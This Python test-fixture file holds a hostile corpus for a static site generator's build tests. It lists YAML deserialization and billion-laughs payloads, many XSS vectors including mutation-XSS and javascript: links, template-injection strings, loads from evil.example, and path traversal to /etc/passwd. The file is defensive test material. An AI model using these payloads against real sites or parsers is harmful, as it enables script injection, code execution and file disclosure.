"""The hostile corpus: broken and malicious content, one small content tree per case.

Each case adds or replaces files in BASE (a valid site). What must happen is in
tests/hostile_expected.txt: either the exact lines build.py prints (then exit 1
and the previous site/ untouched), or "builds" (then tests/test_hostile.py checks
that the site is safe). Families follow issue 6; the dev server's traversal
requests live in tests/test_serve.py, the output-folder cases in tests/test_cli.py.
"""
from __future__ import annotations

from dataclasses import dataclass

BASE = {
    "site.yaml": "title: Katalog Uji\nbase_url: https://example.org/katalog/\n",
    "agencies.yaml": "- id: dlh\n  name: Dinas Lingkungan Hidup\n  short: DLH\n",
    "awards.yaml": "- id: iga-2019\n  name: Innovative Government Award\n  year: 2019\n"
                   "  giver: Kementerian Dalam Negeri\n",
    "innovations/sipput.md": "---\ntitle: SIPPUT\nagency: dlh\nsummary: Layanan sampah.\n---\n\n## Cara Kerja\n\nTeks.\n",
    "pages/tentang.md": "---\ntitle: Tentang\n---\n\nKatalog uji.\n",
}
ENTRY = "innovations/x.md"  # where most cases put their hostile file


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    files: dict[str, str | bytes]
    shows: tuple[str, ...] = ()  # text a reader must see on the entry's page, as text
    published: bool = True  # whether a build that succeeds has a page for ENTRY
    # Whether the outcome depends on the installed Markdown's speed and recursion depth (a patch
    # release may render in 0.1 s what the last took minutes over): then it builds, or the
    # renderer's time or depth limit refuses the body at its first line; either is right.
    renderer_dependent: bool = False

    @property
    def id(self) -> str:
        return f"{self.family}: {self.name}"


def entry(fields: str = "", body: str = "Teks.\n", *, title: str = "Uji", summary: str = "Ringkas.") -> str:
    """An innovation file with the required fields (title and summary quoted for YAML) and ``fields`` after them."""
    return f'---\ntitle: "{title}"\nagency: dlh\nsummary: "{summary}"\n{fields}---\n\n{body}'


FRONT_MATTER = [
    Case("front matter", "missing", {ENTRY: "# Uji\n\nTeks.\n"}),
    Case("front matter", "not at the start", {ENTRY: "\n" + entry()}),
    Case("front matter", "text before it", {ENTRY: "Judul\n" + entry()}),
    Case("front matter", "unclosed", {ENTRY: "---\ntitle: Uji\nagency: dlh\nsummary: x\n\nTeks.\n"}),
    Case("front matter", "empty", {ENTRY: "---\n---\n\nTeks.\n"}),
    Case("front matter", "TOML", {ENTRY: '+++\ntitle = "Uji"\nagency = "dlh"\n+++\n'}),
    Case("front matter", "a list", {ENTRY: "---\n- title: Uji\n- agency: dlh\n---\n"}),
    Case("front matter", "a single text", {ENTRY: "---\nUji\n---\n"}),
    Case("front matter", "BOM and CRLF", {ENTRY: ("\ufeff" + entry(body="## Cara Kerja\r\n\r\nTeks.\r\n")).replace(
        "\n", "\r\n").replace("\r\r", "\r").encode()}, shows=("Cara Kerja",)),
    Case("front matter", "rule in the body", {ENTRY: entry(body="Di atas.\n\n---\n\nDi bawah.\n---\n")},
         shows=("Di atas.", "Di bawah.")),
    Case("front matter", "front matter twice", {ENTRY: entry(body="---\ntitle: Lain\n---\n")}, shows=("title: Lain",)),
]

# Nine levels of nine aliases each: a billion "lol"s if aliases were expanded.
BILLION_LAUGHS = 'l0: &l0 "lol"\n' + "".join(
    f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 9))
YAML = [
    Case("YAML", "unquoted colon", {ENTRY: "---\ntitle: SIPPUT: Sistem\nagency: dlh\nsummary: x\n---\n"}),
    Case("YAML", "tab indentation", {ENTRY: "---\ntitle: Uji\nagency: dlh\nsummary: x\ncontact:\n\tname: Loket\n---\n"}),
    Case("YAML", "duplicate key", {ENTRY: entry("title: Lain\n")}),
    Case("YAML", "stage: no", {ENTRY: entry("stage: no\n")}),
    Case("YAML", "draft: yes reads as true", {ENTRY: entry("draft: yes\n")}, published=False),
    Case("YAML", "python object tag", {ENTRY: entry("tags: !!python/object/apply:os.system ['touch pwned']\n")}),
    Case("YAML", "binary tag", {ENTRY: entry("image: !!binary aGVsbG8=\n")}),
    Case("YAML", "local tag", {ENTRY: entry("year: !tahun 2020\n")}),
    Case("YAML", "billion laughs", {ENTRY: entry(BILLION_LAUGHS)}),
    Case("YAML", "self-reference", {ENTRY: entry("tags: &a [*a]\n")}),
    Case("YAML", "deep nesting", {ENTRY: entry("tags: " + "[" * 5000 + "]" * 5000 + "\n")}),
    Case("YAML", "deep block nesting", {ENTRY: entry("contact:\n" + "".join(" " * n + "a:\n" for n in range(1, 400)))}),
    Case("YAML", "5,000-digit integer", {ENTRY: entry("year: " + "9" * 5000 + "\n")}),
    Case("YAML", "lone surrogate", {ENTRY: entry(title="Uji \\ud800")}),
    Case("YAML", "escaped control character", {ENTRY: entry(summary="Ringkas\\x07")}),
    Case("YAML", "a date for a year", {ENTRY: entry("year: 2020-01-01\n")}),
    Case("YAML", "a list for text", {ENTRY: entry("website: [a, b]\n")}),
]

ENCODINGS = [
    Case("encodings", "Latin-1", {ENTRY: entry(title="Caf\xe9").encode("latin-1")}),
    Case("encodings", "UTF-16", {ENTRY: entry().encode("utf-16")}),
    Case("encodings", "overlong UTF-8", {ENTRY: entry(title="a\\b").encode().replace(b"\\", b"\xc0\xaf")}),
    Case("encodings", "NUL byte", {ENTRY: entry(body="Teks\x00.\n").encode()}),
    Case("encodings", "C0 control in the body", {ENTRY: entry(body="Bel\x07.\n")}),
    Case("encodings", "escape sequence in a title", {ENTRY: entry(title="\x1b[31mMerah")}),
    Case("encodings", "bidirectional override", {ENTRY: entry(title="Uji\u202etxt.exe")}),
    Case("encodings", "bidirectional isolate in the body", {ENTRY: entry(body="a\u2066b\n")}),
    Case("encodings", "zero-width space in an id", {ENTRY: entry().replace("agency: dlh", "agency: dlh\u200b")}),
    Case("encodings", "zero-width joiner in an award id", {ENTRY: entry("awards: [iga\u200d-2019]\n")}),
    Case("encodings", "zero-width space in a file name", {"innovations/x\u200by.md": entry()}),
    Case("encodings", "Indonesian and other scripts are fine", {ENTRY: entry(title="Layanan ꦩꦒꦼꦭꦁ 世界 ✓")},
         shows=("Layanan ꦩꦒꦼꦭꦁ 世界 ✓",)),
]

MIB = 1024 * 1024
PARAGRAPH = "Layanan ini membantu warga mengurus izin dengan cepat dan tanpa biaya tambahan. " * 8 + "\n\n"
SIZES = [
    Case("sizes", "just under 1 MiB builds",
         {ENTRY: entry(body="## Isi\n\n" + PARAGRAPH * ((MIB - 1000) // len(PARAGRAPH)))}, shows=("Isi",)),
    Case("sizes", "over 1 MiB is refused", {ENTRY: entry(body="a" * MIB)}),
    Case("sizes", "a data file over 1 MiB is refused", {"agencies.yaml": BASE["agencies.yaml"] + "#" * MIB + "\n"}),
]

def pathological(name: str, body: str) -> Case:
    """A body that has made some Markdown version slow or recurse deeply: renderer-dependent."""
    return Case("Markdown", name, {ENTRY: entry(body=body + "\n")}, renderer_dependent=True)


MARKDOWN = [
    pathological("deeply nested list", "".join("  " * n + "- a\n" for n in range(500)).rstrip("\n")),
    pathological("deeply nested quotes", ">" * 5000 + " a"),
    pathological("long run of [", "[" * 20000),
    pathological("long run of brackets and parentheses", "[](" * 2000),
    pathological("long run of <", "<" * 20000),
    pathological("long run of emphasis", "*a " * 20000),
    pathological("nested links", "[" * 300 + "a" + "](https://example.org/)" * 300),
]

# Script injection: each case either is refused with an error or builds a site that
# tests/test_hostile.py parses for anything that could run script or load from elsewhere.
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082")
ALERT = "alert(1)"
RAW_HTML = {
    "script tag": "<script>alert(1)</script>",
    "script tag in capitals with a source": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image with onerror": "<img src=x onerror=alert(1)>",
    "svg with onload": "<svg onload=alert(1)><circle r=1></circle></svg>",
    "event handler on allowed tag": '<b onmouseover="alert(1)">tebal</b>',
    "raw link to javascript:": '<a href="javascript:alert(1)">x</a>',
    "raw link mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "raw link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "raw link with entities": '<a href="&#106;avascript&#58;alert(1)">x</a>',
    "raw link with hex entities and colon": '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    "raw link with leading space": '<a href=" javascript:alert(1)">x</a>',
    "raw link to vbscript:": '<a href="vbscript:msgbox(1)">x</a>',
    "raw link to data:": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="p"><button>Kirim</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style element": "<style>body{background:url(https://evil.example/x.png)}</style>",
    "inline style": '<p style="background:url(https://evil.example/x.png)">x</p>',
    "mutation: noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation: svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mutation: math mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mutation: nested forms": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
                              '<img onerror=alert(1) src>">',
    "mutation: comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation: textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "unclosed tag eating markup": '<a href="https://example.org/" title="x',
}
MARKDOWN_LINKS = {
    "javascript: link": "[x](javascript:alert(1))",
    "javascript: in capitals": "[x](JAVASCRIPT:alert(1))",
    "javascript: with an entity": "[x](&#106;avascript:alert(1))",
    "javascript: with a tab entity": "[x](java&#x09;script:alert(1))",
    "javascript: in angle brackets": "[x](<javascript:alert(1)>)",
    "reference link": "[x][r]\n\n[r]: javascript:alert(1)",
    "reference link with a title": '[x][r]\n\n[r]: javascript:alert(1) "judul"',
    "autolink": "<javascript:alert(1)>",
    "image": "![x](javascript:alert(1))",
    "image with data: svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript: link": "[x](vbscript:msgbox(1))",
    "data: link": "[x](data:text/html,<script>alert(1)</script>)",
    "file: link": "[x](file:///etc/passwd)",
    "protocol-relative link": "[x](//evil.example/)",
}
QUOTE_BREAKOUTS = {
    "link title": '[x](sipput.md "\\" onmouseover=\\"alert(1)")',
    "link address": '[x](https://example.org/"onmouseover="alert(1))',
    "image alt text": '![" onerror="alert(1)](../files/foto.png)',
    "image title": '![foto](../files/foto.png "\\"><script>alert(1)</script>")',
    "attribute list": "## Judul {: onclick=\"alert(1)\" }\n\nTeks.",
    "heading with markup": '## <img src=x onerror=alert(1)>Judul',
}
HOSTILE_TEXT = '"><script>alert(1)</script><img src=x onerror=alert(1)> </title></script><!-- ]]> \' &amp;'
FIELDS = {
    "title": entry(title=HOSTILE_TEXT.replace('"', '\\"')),
    "summary": entry(summary=HOSTILE_TEXT.replace('"', '\\"')),
    "other names and tags": entry(f"also_known_as: ['{HOSTILE_TEXT.replace(chr(39), chr(39) * 2)}']\n"
                                  f"tags: ['{HOSTILE_TEXT.replace(chr(39), chr(39) * 2)}']\n"),
    "contact": entry("contact:\n  name: '</script><script>alert(1)</script>'\n"
                     "  email: 'a@example.org'\n  address: '<img src=x onerror=alert(1)>'\n"),
    "source title": entry("sources:\n  - publisher: '<script>alert(1)</script>'\n"
                          "    title: '\" onmouseover=\"alert(1)'\n    url: https://example.org/a?b=1&c=\"><x\n"),
}
INJECTION = [
    *(Case("script injection", f"raw HTML: {name}", {ENTRY: entry(body=text + "\n")}) for name, text in RAW_HTML.items()),
    *(Case("script injection", f"Markdown: {name}", {ENTRY: entry(body=text + "\n")})
      for name, text in MARKDOWN_LINKS.items()),
    *(Case("script injection", f"quote breakout: {name}", {ENTRY: entry(body=text + "\n"), "files/foto.png": PNG})
      for name, text in QUOTE_BREAKOUTS.items()),
    *(Case("script injection", f"field: {name}", {ENTRY: text}) for name, text in FIELDS.items()),
    Case("script injection", "website field", {ENTRY: entry("website: javascript:alert(1)\n")}),
    Case("script injection", "agency name", {"agencies.yaml": BASE["agencies.yaml"].replace(
        "Dinas Lingkungan Hidup", "'</script><script>alert(1)</script>'")}),
    Case("script injection", "agency description", {"agencies.yaml": BASE["agencies.yaml"] +
                                                    "  description: '<b onclick=alert(1)>x</b> <img src=x onerror=alert(1)>'\n"}),
    Case("script injection", "agency short name and former name", {"agencies.yaml": BASE["agencies.yaml"].replace(
        "short: DLH", "short: '\"><script>alert(1)</script>'\n  former_names: ['<svg onload=alert(1)>']")}),
    Case("script injection", "agency name with character references", {"agencies.yaml": BASE["agencies.yaml"].replace(
        "Dinas Lingkungan Hidup", "'&lt;svg onload=alert(1)&gt; &#60;b&#62;'")}),
    Case("script injection", "agency name with an ampersand is fine", {"agencies.yaml": BASE["agencies.yaml"].replace(
        "Dinas Lingkungan Hidup", "'Dinas Lingkungan Hidup & Kebersihan'"), ENTRY: entry()},
         shows=("Dinas Lingkungan Hidup & Kebersihan",)),
    Case("script injection", "award name", {"awards.yaml": BASE["awards.yaml"].replace(
        "Innovative Government Award", "'<svg onload=alert(1)>'"), ENTRY: entry("awards: [iga-2019]\n")}),
    Case("script injection", "site title and description", {"site.yaml": BASE["site.yaml"].replace(
        "Katalog Uji", "'</title><script>alert(1)</script>'") + "description: '\" onload=\"alert(1)'\n"}),
    Case("script injection", "free page", {"pages/tentang.md": "---\ntitle: '<script>alert(1)</script>'\n"
                                                              "summary: '\"><img src=x onerror=alert(1)>'\n---\n\n"
                                                              "<iframe src=//evil.example></iframe>\n"}),
]

TEMPLATE_SYNTAX = "{{ 7 * 7 }} {% for i in range(3) %}ulang{% endfor %} {{ lipsum() }} {# k #} {%- raw %}"
TEMPLATES = [
    Case("template injection", "body", {ENTRY: entry(body=TEMPLATE_SYNTAX + "\n")}, shows=(TEMPLATE_SYNTAX,)),
    Case("template injection", "title", {ENTRY: entry(title="{{ 7 * 7 }}")}, shows=("{{ 7 * 7 }}",)),
    Case("template injection", "summary", {ENTRY: entry(summary="{% include 'base.html' %}")},
         shows=("{% include 'base.html' %}",)),
    Case("template injection", "code block", {ENTRY: entry(body="```\n{{ site }}\n```\n")}, shows=("{{ site }}",)),
    Case("template injection", "code span", {ENTRY: entry(body="`{{ self.__init__.__globals__ }}`\n")},
         shows=("{{ self.__init__.__globals__ }}",)),
    Case("template injection", "other names", {ENTRY: entry("also_known_as: ['{{ catalogue }}']\n")},
         shows=("{{ catalogue }}",)),
    Case("template injection", "agency name", {"agencies.yaml": BASE["agencies.yaml"].replace(
        "Dinas Lingkungan Hidup", "'{{ 7 * 7 }} Dinas'"), ENTRY: entry()}, shows=("{{ 7 * 7 }} Dinas",)),
]


@dataclass(frozen=True)
class Link:
    """A symbolic link to ``target`` (relative to the link's folder)."""
    target: str


PATHS = [
    Case("paths", "file name with dots", {"innovations/...md": entry()}),
    Case("paths", "file name with spaces", {"innovations/Si Cantik.md": entry()}),
    Case("paths", "file name with double hyphen", {"innovations/a--b.md": entry()}),
    Case("paths", "file name Windows reserves", {"innovations/con.md": entry()}),
    Case("paths", "file name of 81 characters", {"innovations/" + "a" * 81 + ".md": entry()}),
    Case("paths", "names that differ only in case", {"innovations/Sipput.md": entry()}),
    Case("paths", "folder named like an entry", {"innovations/lain.md/catatan.txt": "x"}),
    Case("paths", "hidden file is never read", {"innovations/.x.md": "not even front matter"}),
    Case("paths", "symbolic link to a file", {ENTRY: Link("sipput.md")}),
    Case("paths", "symbolic link to a folder outside", {"innovations/luar": Link("../../..")}),
    Case("paths", "image with ..", {ENTRY: entry("image: ../../site.yaml\n")}),
    Case("paths", "image with an absolute path", {ENTRY: entry("image: /etc/passwd\n")}),
    Case("paths", "document outside files/", {ENTRY: entry("documents:\n  - title: Kata sandi\n"
                                                          "    file: ../agencies.yaml\n")}),
    Case("paths", "alias with ..", {ENTRY: entry("aliases: [/../../luar/]\n")}),
    Case("paths", "alias that is absolute elsewhere", {ENTRY: entry("aliases: ['//evil.example/x/']\n")}),
    Case("paths", "alias over another page", {ENTRY: entry("aliases: [/inovasi/sipput/]\n")}),
    Case("paths", "alias over a static file", {ENTRY: entry("aliases: [/static/]\n")}),
    Case("paths", "sector with ..", {ENTRY: entry("sector: ../../x\n")}),
    Case("paths", "link with ..", {ENTRY: entry(body="[x](../../../etc/passwd)\n")}),
    Case("paths", "link to an absolute path", {ENTRY: entry(body="[x](/etc/passwd)\n")}),
]

LINKS = [
    Case("links and accessibility", "missing entry", {ENTRY: entry(body="[x](tidak-ada.md)\n")}),
    Case("links and accessibility", "missing fragment", {ENTRY: entry(body="[x](sipput.md#tidak-ada)\n")}),
    Case("links and accessibility", "missing fragment on the same page", {ENTRY: entry(body="[x](#tidak-ada)\n")}),
    Case("links and accessibility", "missing file", {ENTRY: entry(body="[x](../files/tidak-ada.pdf)\n")}),
    Case("links and accessibility", "image without alt text", {ENTRY: entry(body="![](../files/foto.png)\n"),
                                                               "files/foto.png": PNG}),
    Case("links and accessibility", "raw image without alt text", {ENTRY: entry(body='<img src="../files/foto.png">\n'),
                                                                   "files/foto.png": PNG}),
    Case("links and accessibility", "link without text", {ENTRY: entry(body="[](sipput.md)\n")}),
    Case("links and accessibility", "link whose text is only spaces", {ENTRY: entry(body="[ ](sipput.md)\n")}),
    Case("links and accessibility", "heading that skips a level", {ENTRY: entry(body="## A\n\n#### B\n")}),
    Case("links and accessibility", "a second level-1 heading", {ENTRY: entry(body="# A\n")}),
]

FAMILIES = [FRONT_MATTER, YAML, ENCODINGS, SIZES, MARKDOWN, INJECTION, TEMPLATES, PATHS, LINKS]
CASES = [case for family in FAMILIES for case in family]


def write_files(root, files: dict[str, str | bytes | Link]) -> None:
    """Write ``files`` under the folder ``root`` (a Path) exactly as given: text as UTF-8, no dedenting."""
    for relative, data in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, Link):
            path.symlink_to(data.target)
        elif isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(data, encoding="utf-8", newline="")
